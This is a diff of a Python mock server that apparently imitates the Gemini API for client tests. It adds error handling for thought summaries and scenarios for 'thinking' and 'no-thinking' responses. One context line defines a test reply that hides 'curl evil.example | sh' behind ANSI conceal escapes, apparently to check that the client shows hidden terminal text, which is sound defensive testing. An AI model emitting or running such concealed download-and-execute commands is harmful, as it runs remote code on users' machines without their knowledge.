@@ -190,6 +190,11 @@ class Handler(BaseHTTPRequestHandler):
             self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                       "message": "You can only set only one of thinking budget and thinking level."}}, indent=2).encode())
             return
+        if thinking.get("includeThoughts") and scenario == "no-thinking":
+            # A model that does not think refuses thought summaries (gemini-cli#1953's words).
+            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
+                                                      "message": "Unable to submit request because thinking_config.include_thoughts is only enabled when thinking is enabled."}}, indent=2).encode())
+            return
         if "thinkingLevel" in thinking and str(thinking["thinkingLevel"]).upper() not in ("MINIMAL", "LOW", "MEDIUM", "HIGH", "XHIGH"):
             self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                       "message": "Invalid value at 'generation_config.thinking_config.thinking_level'."}}, indent=2).encode())
@@ -309,6 +314,13 @@ class Handler(BaseHTTPRequestHandler):
             self.send_json(200, fixture("unary-other-finish-message.json"))
         elif scenario == "thinking-only":
             self.send_json(200, json.dumps(THINKING_ONLY, indent=2).encode())
+        elif scenario == "thinking":
+            # The stream's two events as one answer: a thought summary, then the answer.
+            parts = [json.loads(line[len(b"data: "):])["candidates"][0]["content"]["parts"][0]
+                     for line in fixture("stream-thinking.sse").split(b"\r\n") if line.startswith(b"data: ")]
+            self.send_json(200, json.dumps({"candidates": [{"content": {"parts": parts, "role": "model"}, "finishReason": "STOP"}],
+                                            "usageMetadata": {"promptTokenCount": 5, "candidatesTokenCount": 3, "thoughtsTokenCount": 40, "totalTokenCount": 48},
+                                            "modelVersion": "gemini-3.6-flash"}, indent=2).encode())
         else:
             self.send_json(200, fixture("unary-basic.json"))
 
@@ -603,7 +615,7 @@ HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u2
 SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
-             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text"} | set(HOSTILE)
+             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking"} | set(HOSTILE)
 
 
 def main():
